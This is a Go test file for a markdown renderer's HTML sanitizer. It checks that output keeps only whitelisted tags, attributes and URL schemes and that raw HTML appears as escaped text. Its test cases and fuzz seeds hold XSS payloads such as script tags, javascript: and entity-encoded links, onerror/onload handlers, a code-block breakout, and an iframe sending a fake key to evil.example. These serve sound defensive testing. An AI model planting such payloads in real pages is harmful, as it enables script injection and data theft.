package api

import (
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// allowedTags and allowedAttrs are what sanitized HTML may contain; the
// oracle parses the output rather than grepping it, because text may
// legitimately say "onerror=" or "javascript:" (escaped, inert).
var allowedTags = map[string]bool{
	"p": true, "br": true, "hr": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true,
	"blockquote": true, "pre": true, "code": true, "em": true, "strong": true, "del": true, "s": true,
	"ul": true, "ol": true, "li": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true,
	"td": true, "sup": true, "sub": true, "kbd": true, "span": true, "a": true, "input": true,
}

var allowedAttrs = map[string]bool{"href": true, "rel": true, "target": true, "class": true, "start": true,
	"align": true, "value": true, "type": true, "checked": true, "disabled": true}

// allowedClass is element.class of the classes the UI styles: a code
// block's language and the spans showing what markdown would hide.
var allowedClass = regexp.MustCompile(`^(code\.language-[A-Za-z0-9_+#.-]+|span\.md-(image|dest|unlinked|ref|info)|p\.md-refdef)$`)

func checkSafe(t testing.TB, s string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if !allowedTags[tok.Data] {
				t.Fatalf("tag <%s> in sanitized HTML: %s", tok.Data, s)
			}
			for _, a := range tok.Attr {
				if !allowedAttrs[a.Key] {
					t.Fatalf("attribute %s on <%s> in sanitized HTML: %s", a.Key, tok.Data, s)
				}
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if a.Key == "href" {
					u, err := url.Parse(v)
					if err != nil || (u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto") {
						t.Fatalf("href %q in sanitized HTML: %s", a.Val, s)
					}
				}
				if a.Key == "class" && !allowedClass.MatchString(tok.Data+"."+a.Val) {
					t.Fatalf("class %q on <%s> in sanitized HTML: %s", a.Val, tok.Data, s)
				}
				if a.Key == "type" && v != "checkbox" {
					t.Fatalf("input type %q in sanitized HTML: %s", a.Val, s)
				}
			}
		}
	}
}

func TestRenderMarkdown(t *testing.T) {
	r := newRenderer()
	for _, tc := range []struct {
		name, in string
		want     []string // substrings the HTML must contain
	}{
		{"script tag", "<script>alert(1)</script>\n\nhello", []string{"<p>hello</p>"}},
		{"javascript link", "[click](javascript:alert(1))", []string{"click"}},
		{"javascript link upper", "[click](JaVaScRiPt:alert(1))", []string{"click"}},
		{"entity-encoded scheme", "[x](jav&#x09;ascript:alert(1))", nil},
		{"raw anchor", `<a href="javascript:alert(1)">x</a>`, nil},
		{"onerror image", `<img src=x onerror=alert(1)>`, nil},
		{"markdown image", "![p](http://evil.example/p.png)", nil},
		{"svg onload", `<svg onload=alert(1)></svg>`, nil},
		{"data url", "[d](data:text/html;base64,PHNjcmlwdD4=)", []string{`<p>d <span class="md-unlinked">(data:text/html;base64,PHNjcmlwdD4=)</span></p>`}},
		{"autolink", "<javascript:alert(1)>", nil},
		{"html block", "<div onclick=\"x()\"><iframe src=//evil></iframe></div>", nil},
		{"style attr", `<p style="background:url(javascript:x)">x</p>`, nil},
		{"reference link", "[a][r]\n\n[r]: javascript:alert(1)", []string{`<p>a <span class="md-ref">[r]</span></p>`, `<p class="md-refdef">[r]: javascript:alert(1)</p>`}},
		{"code block kept", "```go\nfmt.Println(\"<script>\")\n```", []string{`<pre><span class="md-info">go</span>` + "\n" + `<code class="language-go">`, "&lt;script&gt;"}},
		{"inline code", "use `<b>` tags", []string{"<code>&lt;b&gt;</code>"}},
		{"safe link", "[ok](https://example.com/a?b=1)", []string{`href="https://example.com/a?b=1"`, `rel="nofollow noreferrer noopener"`, `target="_blank"`}},
		{"table", "| a | b |\n|---|---|\n| 1 | 2 |", []string{"<table>", "<td>1</td>"}},
		{"emphasis", "**bold** and _it_", []string{"<strong>bold</strong>", "<em>it</em>"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, ok := r.HTML(tc.in)
			if !ok {
				t.Fatal("not rendered")
			}
			checkSafe(t, out)
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("HTML lacks %q: %s", w, out)
				}
			}
		})
	}
}

// textOf is what a browser shows of sanitized HTML: its text, unescaped.
func textOf(s string) string {
	var b strings.Builder
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return b.String()
		case html.TextToken:
			b.Write(z.Text())
		}
	}
}

// TestRenderShowsRawHTMLAsText: text inside raw HTML — blocks, inline tags,
// comments — is what a user typed, and an auditor must see it. goldmark
// without WithUnsafe dropped it, so a secret inside was flagged but not
// shown; it must now appear as inert, escaped text.
func TestRenderShowsRawHTMLAsText(t *testing.T) {
	const secret = "AKIAQWERTYUIOPASDFGH"
	r := newRenderer()
	for _, tc := range []struct {
		name, in string
		shown    []string // literal source the visible text must contain
	}{
		{"details block", "<details>\n<summary>creds</summary>\nkey " + secret + "\n</details>",
			[]string{"<details>", "<summary>creds</summary>", "key " + secret, "</details>"}},
		{"details block closed on one line", "<details><summary>s</summary>" + secret + "</details>", []string{"<details><summary>s</summary>" + secret + "</details>"}},
		{"comment block", "<!-- password: " + secret + " -->", []string{"<!-- password: " + secret + " -->"}},
		{"multi-line comment block", "before\n\n<!--\n" + secret + "\n-->\n\nafter", []string{"<!--\n" + secret + "\n-->", "before", "after"}},
		{"inline comment", "see <!-- " + secret + " --> here", []string{"see <!-- " + secret + " --> here"}},
		{"div between paragraphs", "first\n\n<div>" + secret + "</div>\n\nlast", []string{"<div>" + secret + "</div>", "first", "last"}},
		{"inline tag with attribute", `text <span title="` + secret + `">x</span> end`, []string{`<span title="` + secret + `">x</span>`}},
		{"script block", "<script>var k='" + secret + "'</script>\n\nhello", []string{"<script>var k='" + secret + "'</script>", "hello"}},
		{"processing instruction", "<?php echo '" + secret + "'; ?>", []string{"<?php echo '" + secret + "'; ?>"}},
		{"cdata", "<![CDATA[" + secret + "]]>", []string{"<![CDATA[" + secret + "]]>"}},
		{"img onerror inline", `hi <img src=x onerror="alert('` + secret + `')">`, []string{`<img src=x onerror="alert('` + secret + `')">`}},
		{"iframe block", `<iframe src="http://evil.example/` + secret + `"></iframe>`, []string{`<iframe src="http://evil.example/` + secret + `"></iframe>`}},
		{"svg onload", `<svg onload=alert(1)>` + secret + `</svg>`, []string{`<svg onload=alert(1)>` + secret + `</svg>`}},
		{"breakout attempt", "<div>\n</code></pre><script>alert(1)</script>\n</div>", []string{"</code></pre><script>alert(1)</script>"}},
		{"html inside a list item", "- item <b>" + secret + "</b>", []string{"<b>" + secret + "</b>"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, ok := r.HTML(tc.in)
			if !ok {
				t.Fatal("not rendered")
			}
			checkSafe(t, out) // no live tag or attribute survives
			text := textOf(out)
			for _, w := range tc.shown {
				if !strings.Contains(text, w) {
					t.Errorf("visible text lacks %q\ntext: %q\nhtml: %s", w, text, out)
				}
			}
		})
	}
}

func TestRenderTooLong(t *testing.T) {
	if _, ok := newRenderer().HTML(strings.Repeat("a", maxRenderBytes+1)); ok {
		t.Error("rendered text over the limit")
	}
}

func FuzzRenderMarkdown(f *testing.F) {
	for _, s := range []string{hostileMarkdown, "[a](javascript:x)", "<img src=x onerror=y>", "```\n<script>\n```",
		"<a href=\"&#106;avascript:alert(1)\">x</a>", "<<script>script>alert(1)<</script>/script>"} {
		f.Add(s)
	}
	r := newRenderer()
	f.Fuzz(func(t *testing.T, in string) {
		out, ok := r.HTML(in)
		if !ok {
			return
		}
		checkSafe(t, out)
	})
}
